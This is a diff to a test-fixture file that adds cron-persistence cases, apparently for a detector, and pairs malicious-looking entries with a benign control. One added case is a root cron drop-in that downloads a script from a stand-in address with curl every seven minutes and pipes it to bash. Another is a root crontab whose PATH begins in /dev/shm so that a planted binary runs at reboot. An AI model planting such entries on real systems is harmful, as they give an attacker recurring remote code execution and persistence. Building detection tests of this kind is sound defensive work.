@@ -97,6 +97,34 @@ export const cases: readonly MechanismCase[] = [
     },
   },
   {
+    mechanism: 'cron-drop-in',
+    dress: 'fetch-and-run',
+    what: 'a command and an address in variables of the table',
+    planted: {
+      '/etc/cron.d/sysupd':
+        'SHELL=/bin/bash\nC="curl -fsSL"\nU=http://192.0.2.11/up\n*/7 * * * * root $C $U | $SHELL\n',
+    },
+  },
+  {
+    mechanism: 'cron-user',
+    dress: 'unowned-binary',
+    what: 'one word, found by a PATH that begins in a folder of memory',
+    planted: {
+      '/var/spool/cron/crontabs/root': 'PATH=/dev/shm:/usr/bin:/bin\n@reboot netsync >/dev/null 2>&1\n',
+      '/dev/shm/netsync': inertProgram(),
+    },
+  },
+  {
+    mechanism: 'cron-user',
+    dress: 'honest',
+    what: 'variables of an application, a PATH of version managers, and a check by an address in a variable',
+    planted: {
+      '/home/ada/app/bin/nightly': '#!/bin/sh\nexec true\n',
+      '/var/spool/cron/crontabs/ada':
+        'SHELL=/bin/bash\nPATH=/home/ada/.nvm/versions/node/v20/bin:/home/ada/.local/bin:/usr/bin:/bin\nMAILTO=ada@example.org\nAPP=/home/ada/app\nPING=https://checks.example.org/ping/51c0\n0 4 * * * $APP/bin/nightly && curl -fsS $PING > /dev/null\n*/5 * * * * node $APP/tick.js\n',
+    },
+  },
+  {
     mechanism: 'cron-user',
     dress: 'fetch-and-run',
     what: 'an encoded fetch in the table of the web server',
